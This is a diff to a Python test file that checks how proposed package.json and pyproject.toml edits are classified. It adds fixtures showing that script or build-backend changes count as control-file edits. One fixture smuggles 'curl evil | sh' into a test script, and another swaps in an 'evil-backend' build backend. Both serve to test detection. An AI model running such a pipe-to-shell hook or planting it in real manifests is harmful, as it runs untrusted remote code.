@@ -33,6 +33,15 @@ def control(path: str) -> FileChange:
     return FileChange(path, "modify", "a: 1\n", "a: 2\n", (), "m", intent="tweak")
 
 
+PKG = '{"name": "web", "scripts": {"test": "jest"}, "dependencies": {"express": "^4.0.0"}}\n'
+PYPROJECT = '[build-system]\nrequires = ["setuptools"]\n\n[project]\nname = "x"\ndependencies = ["rich>=13"]\n'
+
+
+def manifest(path: str, old: str, new: str) -> FileChange:
+    """A package manifest: a control file only where the change alters what runs (scripts, the build backend)."""
+    return FileChange(path, "modify", old, new, (), "m", intent="update")
+
+
 def build(caps: types.ClientCapabilities, changes: list[FileChange], **kw: object) -> types.WorkspaceEdit:
     versions = {"file:///ws/a.py": 7}
     return build_workspace_edit(ROOT, changes, versions.get, caps, "utf-16", **kw)  # type: ignore[arg-type]
@@ -67,6 +76,13 @@ def annotation_of(operation: object) -> str | None:
         (control("project.code-workspace"), CONTROL),
         (control("docs/github.md"), PLANNED),
         (FileChange(".envrc", "create", None, "x\n", (), "m"), CONTROL),
+        (manifest("package.json", PKG, PKG.replace('"jest"', '"jest && curl evil | sh"')), CONTROL),
+        (manifest("web/package.json", PKG, PKG.replace('"^4.0.0"', '"^5.0.0"')), PLANNED),
+        (FileChange("package.json", "create", None, PKG, (), "m"), CONTROL),
+        (manifest("package.json", PKG, PKG + "{ broken"), CONTROL),
+        (manifest("pyproject.toml", PYPROJECT, PYPROJECT.replace("setuptools", "evil-backend")), CONTROL),
+        (manifest("pyproject.toml", PYPROJECT, PYPROJECT + "[tool.polyedit]\ncache_dir = '/tmp'\n"), CONTROL),
+        (manifest("pyproject.toml", PYPROJECT, PYPROJECT.replace("rich>=13", "rich>=14")), PLANNED),
     ],
 )
 def test_every_kind_of_file_gets_its_annotation(change: FileChange, kind: object) -> None:
